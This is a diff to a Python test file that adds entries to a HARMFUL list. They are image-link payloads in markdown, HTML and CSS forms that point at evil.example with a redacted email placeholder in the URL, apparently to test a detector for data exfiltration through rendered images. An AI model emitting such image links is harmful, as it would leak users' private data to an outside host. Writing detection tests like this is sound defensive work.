@@ -135,6 +135,11 @@ HARMFUL = [
         "/a.png 1x, https://evil.example/?q 2x",
     ),
     ("IMAGE_LINK", "![x](http:evil.example/?q=1)", "http:evil.example/?q=1"),
+    # What a reversible redaction is put back into.
+    *(
+        ("IMAGE_LINK", text.format("https://evil.example/<EMAIL_1>"), f"https://evil.example/<EMAIL_1{end}")
+        for text, end in (("![x]({})", ">"), ("![x](<{}>)", ""), ("<img src='{}'>", ">"), ("url({})", ">"))
+    ),
     # And what they take for an image's description.
     *(
         ("IMAGE_LINK", f"![{alt}](https://evil.example/?q=1)", "https://evil.example/?q=1")
